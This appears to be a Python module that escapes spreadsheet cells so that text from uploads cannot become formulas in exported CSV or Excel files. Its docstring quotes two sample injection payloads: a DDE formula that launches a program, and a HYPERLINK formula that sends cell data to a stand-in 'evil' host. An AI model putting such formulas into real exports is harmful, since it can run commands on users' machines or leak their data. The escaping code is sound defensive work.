"""Formula (CSV) injection: text from uploaded spreadsheets must not become a formula in an exported one.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab / carriage return, which some spreadsheet
programs skip before looking for one) is run as a formula when Excel, WPS or LibreOffice open the exported
file: ``=cmd|' /C calc'!A0``, ``=HYPERLINK("http://evil/?"&A1, "…")``. OWASP's remedy: prefix such text with a
single quote, which the spreadsheet shows as text and does not display. Numbers are left alone (a negative
number is a number, not a formula); so are dates and None.

Every exported spreadsheet or CSV passes its cells through `escape_cell` / `escape_frame` / `escape_rows`.
"""
from __future__ import annotations

import re
from typing import Any, Iterable

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# On-screen tables show gaps as text ("-3.5个百分点", "-7.0 pp"); such a cell cannot run anything, so the
# table helper keeps it readable while still escaping everything else (their CSV download is Streamlit's).
_SIGNED_FIGURE = re.compile(r"[-+]\s?\d[\d,.]*\s?[%\w\u4e00-\u9fff ]{0,8}")


def escape_cell(value: Any, keep_signed_figures: bool = False) -> Any:
    """The value, with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        if keep_signed_figures and _SIGNED_FIGURE.fullmatch(value):
            return value
        return "'" + value
    return value


def escape_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [[escape_cell(v) for v in row] for row in rows]


def escape_frame(df: pd.DataFrame, keep_signed_figures: bool = False) -> pd.DataFrame:
    """A copy of a DataFrame safe to write with to_csv / to_excel: text cells and column names escaped."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(lambda v: escape_cell(v, keep_signed_figures)).astype(object)
    out.columns = [escape_cell(c) for c in out.columns]
    return out


def safe_csv_bytes(df: pd.DataFrame) -> bytes:
    """CSV for download: formula-escaped, UTF-8 with BOM so Excel shows Chinese correctly."""
    return escape_frame(df).to_csv(index=False).encode("utf-8-sig")
